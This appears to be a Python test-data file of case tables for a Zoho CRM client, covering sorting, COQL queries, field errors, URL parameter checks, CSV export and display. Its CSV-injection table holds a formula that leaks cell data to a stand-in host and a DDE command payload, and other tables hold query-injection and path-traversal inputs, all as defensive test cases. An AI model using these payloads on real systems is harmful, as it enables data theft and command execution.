"""Case tables for the rules of Zoho's real limits and truthful screens (portable_rules, and the
CPython tests). Expected values are written out by hand; plain data, MicroPython-compatible."""

# --- Sorting (app/zoho/sorting.py) -------------------------------------------

ALL_SCOPES = ["ZohoCRM.modules.ALL", "ZohoCRM.settings.READ", "ZohoCRM.coql.READ"]
NO_COQL = ["ZohoCRM.modules.ALL", "ZohoCRM.settings.READ"]

# A settings/fields answer with Zoho's `sortable` flags (other keys the core does not read left out).
SORTABLE_FIELDS_ANSWER = {"fields": [
    {"api_name": "Last_Name", "field_label": "Last Name", "data_type": "text", "sortable": True},
    {"api_name": "Description", "field_label": "Description", "data_type": "textarea", "sortable": False},
    {"api_name": "Tag", "field_label": "Tag", "data_type": "text"},
    {"api_name": "Created_Time", "field_label": "Created Time", "data_type": "datetime", "sortable": True},
]}

SORT_PLANS = [
    # (column, scopes, how, start of the reason or None)
    ("id", NO_COQL, "records", None),
    ("Created_Time", NO_COQL, "records", None),
    ("Modified_Time", [], "records", None),
    ("Last_Name", ALL_SCOPES, "coql", None),
    ("Last_Name", ["ZohoCRM.coql.ALL", "ZohoCRM.modules.READ"], "coql", None),
    ("Last_Name", NO_COQL, None, "Sorting by Last Name needs Zoho's query permission (ZohoCRM.coql.READ)"),
    ("Description", ALL_SCOPES, None, "Zoho does not sort records by Description."),
    ("Tag", ALL_SCOPES, None, "Zoho does not sort records by Tag."),
    ("Not_In_Metadata", ALL_SCOPES, None, "Zoho's field list does not say Not_In_Metadata can be sorted by."),
]

SORTED_QUERIES = [
    # (module, fields, (sort_by, order), per_page, page_token, expected COQL)
    ("Leads", ["Last_Name", "Email"], ("Last_Name", "asc"), 20, None,
     "select id, Last_Name, Email from Leads where id is not null order by Last_Name asc limit 0, 20"),
    ("Leads", ["Email", "id"], ("Email", "desc"), 20, "40",
     "select id, Email from Leads where id is not null order by Email desc limit 40, 20"),
    ("Deals", ["Amount"], ("Amount", "desc"), 2000, "99000",
     "select id, Amount from Deals where id is not null order by Amount desc limit 99000, 1000"),
]

SORTED_QUERIES_BAD = [
    # (module, fields, sort_by, per_page, page_token): each refused with ValueError
    ("Leads; delete", ["Email"], "Email", 20, None),
    ("Leads", ["Email from Deals"], "Email", 20, None),
    ("Leads", ["Email"], "Email desc, id", 20, None),
    ("Leads", ["Email"], "Email", 0, None),
    ("Leads", ["Email"], "Email", 2001, None),
    ("Leads", ["Email"], "Email", 20, "-20"),
    ("Leads", ["Email"], "Email", 20, "20 limit 1"),
    ("Leads", ["Email"], "Email", 20, "100000"),
    ("Leads", ["F" + str(n) for n in range(50)], "F1", 20, None),
]


# --- Field errors (app/zoho/field_errors.py, fields.check_record) -------------

FORM_FIELDS_ANSWER = {"fields": [
    {"api_name": "Last_Name", "field_label": "Last Name", "data_type": "text", "system_mandatory": True, "length": 80},
    {"api_name": "Email", "field_label": "Email", "data_type": "email", "length": 100},
    {"api_name": "Number_1", "field_label": "Seats", "data_type": "integer", "json_type": "integer"},
    {"api_name": "Company", "field_label": "Company", "data_type": "text", "length": 200},
    {"api_name": "Unique_1", "field_label": "Badge Code", "data_type": "text", "length": 20},
    {"api_name": "Product_Category", "field_label": "Product Category", "data_type": "picklist",
     "pick_list_values": [{"display_value": "Tools", "actual_value": "Tools"}]},
    {"api_name": "Product_Subcategory", "field_label": "Product Subcategory", "data_type": "text"},
    {"api_name": "Items", "field_label": "Ordered Items", "data_type": "subform"},
]}

# Zoho's per-record errors (the details as in zoho/crm-oas v8.0/record/operations/createRecords/examples)
ZOHO_FIELD_ERRORS = [
    # (code, details, Zoho's message, expected api_name, expected sentence)
    ("INVALID_DATA", {"maximum_length": 2, "api_name": "Number_1", "json_path": "$.data[0].Number_1"},
     "invalid data", "Number_1", "Seats must be at most 2 characters long."),
    ("INVALID_DATA", {"expected_data_type": "integer", "api_name": "Number_1", "json_path": "$.data[0].Number_1"},
     "invalid data", "Number_1", "Seats must be a whole number, such as 1250."),
    ("INVALID_DATA", {"api_name": "Company", "json_path": "$.data[0].Company"},
     "The field value given for Company is invalid", "Company", "Company has a value Zoho does not accept."),
    ("MANDATORY_NOT_FOUND", {"api_name": "Last_Name", "json_path": "$.data[0].Last_Name"},
     "required field not found", "Last_Name", "Last Name is required."),
    ("DUPLICATE_DATA", {"api_name": "Unique_1", "json_path": "$.data[0].Unique_1", "id": "2008662000006256222"},
     "duplicate data", "Unique_1", "Badge Code has a value that another record already has, and it must be unique."),
    ("DEPENDENT_FIELD_MISSING", {"dependee": {"api_name": "Product_Category",
                                              "json_path": "$.data[0].Product_Category"},
                                 "api_name": "Product_Subcategory", "json_path": "$.data[0].Product_Subcategory"},
     "The field 'Product_Subcategory' is required when 'Product_Category' is provided", "Product_Subcategory",
     "Product Subcategory is required when Product Category is given."),
    # json_path wins over api_name: a subform's inner field marks the subform.
    ("INVALID_DATA", {"expected_data_type": "double", "api_name": "Quantity", "json_path": "$.data[0].Items[1].Quantity"},
     "invalid data", "Items", "Ordered Items must be a number, such as 1250 or 99.50."),
    ("INVALID_DATA", {"api_name": "Email", "json_path": "$.data[3].Email", "expected_data_type": "email"},
     "invalid data", "Email", "Email must be an email address, such as ada@example.com."),
    # A field that is not on the form: said at the form (api_name None), named as Zoho named it.
    ("MANDATORY_NOT_FOUND", {"api_name": "id", "json_path": "$.data.service.id"},
     "Service Id Not Found", None, "id is required."),
    ("INVALID_DATA", {"api_name": "Layout", "json_path": "$.data[0].Layout", "supported_values": ["Standard"]},
     "invalid data", None, "Layout must be one of: Standard."),
    ("RECORD_LOCKED", {"api_name": "Email"}, "record locked", "Email",
     'Email was refused by Zoho: RECORD_LOCKED (Zoho said: "record locked").'),
]
# Errors that name no field: the form's message says them (FieldProblem None).
ZOHO_ERRORS_WITHOUT_FIELD = [
    ("INVALID_DATA", {"resource_path_index": 0}, "invalid record id"),
    ("INVALID_DATA", {}, "invalid data"),
    ("INVALID_DATA", None, "invalid data"),
    ("INVALID_DATA", {"api_name": "a.b", "json_path": "$.x"}, "invalid data"),
]

# The form's own checks: (entries, creating, [(api_name, sentence)])
FORM_CHECKS = [
    ({"Last_Name": "", "Number_1": "2.5"}, True,
     [("Last_Name", "Last Name is required."), ("Number_1", "Seats must be a whole number, such as 1250.")]),
    ({"Email": "ada"}, False, [("Email", "Email must be an email address, such as ada@example.com.")]),
    ({"Company": "x" * 201, "Last_Name": "Lovelace"}, True, [("Company", "Company must be at most 200 characters long.")]),
    ({"Last_Name": "Lovelace", "Email": "ada@example.com"}, True, []),
]


# --- The table kept for the tab (app/zoho/table_state.py) ---------------------

KNOWN_LEAD_FIELDS = ["Last_Name", "Email", "Company", "Lead_Status"]
STORED_TABLES = [
    # (stored text, known fields or None, expected (fields, (sort_by, order) or None) or None)
    ('{"v": 1, "fields": ["Last_Name", "Email"], "sort": {"by": "Email", "order": "asc"}}', None,
     (["Last_Name", "Email"], ("Email", "asc"))),
    ('{"v": 1, "fields": ["Last_Name", "Gone_Field", "Email"], "sort": {"by": "Gone_Field", "order": "asc"}}',
     KNOWN_LEAD_FIELDS, (["Last_Name", "Email"], None)),
    ('{"v": 1, "fields": ["Email"], "sort": {"by": "Modified_Time", "order": "desc"}}', KNOWN_LEAD_FIELDS,
     (["Email"], ("Modified_Time", "desc"))),
    ('{"v": 1, "fields": ["Email", "Email", "a b", 7, "../x"], "sort": {"by": "Email", "order": "up"}}', None,
     (["Email"], None)),
    ('{"v": 1, "fields": ["Email"], "sort": "Email"}', None, (["Email"], None)),
    ('{"v": 1, "fields": ["Gone_Field"], "sort": null}', KNOWN_LEAD_FIELDS, None),
    ('{"v": 2, "fields": ["Email"], "sort": null}', None, None),
    ('{"fields": ["Email"]}', None, None),
    ('{"v": 1, "fields": "Email"}', None, None),
    ('{"v": 1, "fields": []}', None, None),
    ('["Email"]', None, None),
    ("{", None, None),
    ("", None, None),
    (None, None, None),
    (42, None, None),
    ('{"v": 1, "fields": ["' + "A" * 20000 + '"]}', None, None),
]


# --- Place values from the address bar (app/zoho/place.py) -------------------

PLACES_CHECKED = [
    # (location.search, expected pairs, expected refused names)
    ("?view=records&module=Leads&record=5725767000000500001", [("module", "Leads"), ("record", "5725767000000500001")],
     []),
    ("?view=records&module=Leads&record=1/../../x?y", [("module", "Leads")], ["record"]),
    ("?view=records&module=Leads&record=1%2F..%2F..%2Fx%3Fy", [("module", "Leads")], ["record"]),
    ("?view=records&module=Leads&record=12%3Fper_page%3D200", [("module", "Leads")], ["record"]),
    ("?view=records&module=Leads&record=-1", [("module", "Leads")], ["record"]),
    ("?view=records&module=Leads&record=%EF%BC%91", [("module", "Leads")], ["record"]),  # a fullwidth digit one
    ("?view=records&module=Leads&record=" + "1" * 51, [("module", "Leads")], ["record"]),
    ("?view=records&module=..%2Forg&record=1", [("record", "1")], ["module"]),
    ("?view=records&module=Leads%3Fx%3D1", [], ["module"]),
    ("?view=records&module=Le ads", [], ["module"]),
    ("?view=records&module=Custom_Module_2&q=a/b?c", [("module", "Custom_Module_2"), ("q", "a/b?c")], []),
]
RECORD_PATHS = [
    # (module, record id or None, expected path or None when refused)
    ("Leads", None, "/crm/v8/Leads"),
    ("Leads", "5725767000000500001", "/crm/v8/Leads/5725767000000500001"),
    ("Leads", "1/../../x?y", None),
    ("Leads", "", None),
    ("Leads", "12a", None),
    ("../org", None, None),
    ("Leads?x=1", "1", None),
    ("", None, None),
]


# --- CSV injection (app/zoho/export.py) --------------------------------------

CSV_CELLS = [
    # (Zoho value, the cell's text in a CSV export by default)
    ('=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("+1", "'+1"),
    ("-2", "'-2"),
    ("\t=1+2", "'\t=1+2"),
    ("\r=1+2", "'\r=1+2"),
    # Deliberate: a phone number typed with its country code is text and keeps the quote too.
    ("+44 20 7946 0958", "'+44 20 7946 0958"),
    ("-555-0100", "'-555-0100"),
    # Zoho numbers are numbers, not formulas: unchanged.
    (-2, "-2"),
    (-0.25, "-0.25"),
    # Names of lookups, and lists, are text like any other.
    ({"name": "=cmd()", "id": "1"}, "'=cmd()"),
    (["@a", "b"], "'@a; b"),
    # Not at the start: harmless, unchanged.
    ("Ada = Countess", "Ada = Countess"),
    ("a-b", "a-b"),
    ("", ""),
    (None, ""),
    (True, "true"),
]


# --- Every field type shown honestly (app/zoho/display.py) --------------------

MILESTONES = [
    {"Milestone": "Kick-off", "Due_Date": "2024-02-05", "Hours": 10.5, "Done": True, "id": "9001",
     "Parent_Id": {"name": "Acme — Roll-out", "id": "8001"}, "$approval_state": "approved"},
    {"Milestone": "Design", "Due_Date": "2024-02-26", "Hours": 4.0, "Done": False, "id": "9002"},
]
TEAM = [{"Contact": {"name": "Ada Lovelace", "id": "7001"}, "id": "9101"},
        {"Contact": {"name": "Grace Hopper", "id": "7002"}, "id": "9102"}]
CONTRACT = [{"File_Name__s": "Acme contract.pdf", "Size__s": "120400", "File_Id__s": "2c9f", "id": "9201"}]
VALUE_TEXTS = [
    # (value, data_type, currency symbol, expected text)
    (MILESTONES, "subform", None, "2 rows: yes, 2024-02-05, 10.5, Kick-off; no, 2024-02-26, 4, Design"),
    (MILESTONES[:1], "subform", None, "1 row: yes, 2024-02-05, 10.5, Kick-off"),
    (TEAM, "multiselectlookup", None, "Ada Lovelace, Grace Hopper"),
    (CONTRACT, "fileupload", None, "Acme contract.pdf"),
    (CONTRACT + [{"File_Name__s": "cover.png", "id": "9202"}], "imageupload", None, "Acme contract.pdf, cover.png"),
    ({"name": "Acme Analytics", "id": "5725767000000500001"}, "lookup", None, "Acme Analytics"),
    ({"id": "5725767000000500001"}, "lookup", None, "id 5725767000000500001"),  # a COQL answer's lookup
    ({"name": "Ada Admin", "id": "1", "email": "ada@example.com"}, "ownerlookup", None, "Ada Admin"),
    ({"id": "1", "email": "ada@example.com"}, "userlookup", None, "ada@example.com"),
    (1312.5, "formula", None, "1312.5"),
    ("PRJ-1001", "autonumber", None, "PRJ-1001"),
    (1250, "currency", None, "1,250.00"),
    (1234567.891, "currency", "$", "$1,234,567.89"),
    (-0.5, "currency", "€", "-€0.50"),
    (True, "boolean", None, "yes"),
    (False, "boolean", None, "no"),
    (25, "percent", None, "25%"),
    (12.0, "double", None, "12"),
    (["CRM", "Analytics"], "multiselectpicklist", None, "CRM, Analytics"),
    ("2024-05-31T09:30:00+05:30", "datetime", None, "2024-05-31T09:30:00+05:30"),
    (None, "subform", None, ""),
    ([], "fileupload", None, ""),
    ("", "text", None, ""),
    ({"street": "1 Main St", "city": "Lagos"}, None, None, "city: Lagos, street: 1 Main St"),
    ([{"name": "A", "id": "1"}, "b", 3], None, None, "A, b, 3"),
]
EDIT_RULES = [
    # (data_type, read_only, expected input kind or None, start of the reason)
    ("text", False, "text", None),
    ("currency", False, "currency", None),
    ("boolean", False, "checkbox", None),
    ("lookup", False, "lookup", None),
    ("ownerlookup", False, "lookup", None),
    ("multiselectpicklist", False, "multi-select", None),
    ("text", True, None, "Zoho makes this field read-only for you."),
    ("formula", False, None, "Zoho computes this field"),
    ("autonumber", False, None, "Zoho numbers this field itself"),
    ("fileupload", False, None, "Files are read-only here"),
    ("imageupload", False, None, "Images are read-only here"),
    ("subform", False, None, "Subform rows are read-only here"),
    ("multiselectlookup", False, None, "Multi-select lookups are read-only here"),
    ("rollup_summary", False, None, "Fields of this type are read-only here"),
]


# --- Search and COQL caps (app/zoho/caps.py, the error tables) ---------------

# Zoho's answer past the search cap (zoho/crm-oas v8.0/module_search searchRecords, 400 LIMIT_REACHED)
LIMIT_REACHED_BODY = ('{"code": "LIMIT_REACHED", "details": {"limit": "2000"}, '
                      '"message": "maximum response iteration limit reached", "status": "error"}')
CRITERIA_LIMIT_BODY = ('{"code": "CRITERIA_LIMIT_EXCEEDED", "details": {}, '
                       '"message": "no of criterium that can be given exceed the limit 15", "status": "error"}')
SEARCH_NEXT = [
    # (page, per_page, more_records, expected next page, whether the cap is said)
    (1, 20, True, 2, False),
    (99, 20, True, 100, False),  # page 100 ends at the 2,000th record
    (100, 20, True, None, True),
    (10, 200, True, None, True),
    (9, 200, True, 10, False),
    (3, 200, False, None, False),
    (100, 20, False, None, False),
]
QUERY_LIMITS = [
    # (query, whether a problem is said before sending, and which: "count" or "reach")
    ("select id from Leads where id is not null limit 0, 2000", None),
    ("select id from Leads where id is not null limit 2001", "count"),
    ("select id from Leads where id is not null limit 98000, 2000", None),
    ("select id from Leads where id is not null limit 99000, 2000", "reach"),
    ("select id from Leads where id is not null limit 100000, 1", "reach"),
    ("select id from Leads where id is not null", None),
    ("select id from Leads where id is not null limit all", None),  # unreadable: Zoho says what is wrong
]
# Zoho's answer past the records list's reach (v8.0/record getRecords, 400 paginationlimitexceeded)
PAGINATION_LIMIT_BODY = ('{"code": "PAGINATION_LIMIT_EXCEEDED", "message": "You can only get upto 100000 records '
                         'using page_token param", "status": "error", "details": {"param_name": "page_token"}}')

# A module whose lookups point to a standard module, a custom one and the users (owner).
DEALS_FIELDS_ANSWER = {"fields": [
    {"api_name": "Deal_Name", "field_label": "Deal Name", "data_type": "text", "sortable": True, "display_field": True},
    {"api_name": "Account_Name", "field_label": "Account Name", "data_type": "lookup", "sortable": True,
     "lookup": {"module": {"api_name": "Accounts", "id": "1"}}},
    {"api_name": "Project", "field_label": "Project", "data_type": "lookup", "sortable": True,
     "lookup": {"module": {"api_name": "Projects", "id": "2"}}},
    {"api_name": "Owner", "field_label": "Deal Owner", "data_type": "ownerlookup", "sortable": True},
    {"api_name": "Amount", "field_label": "Amount", "data_type": "currency", "sortable": True},
]}
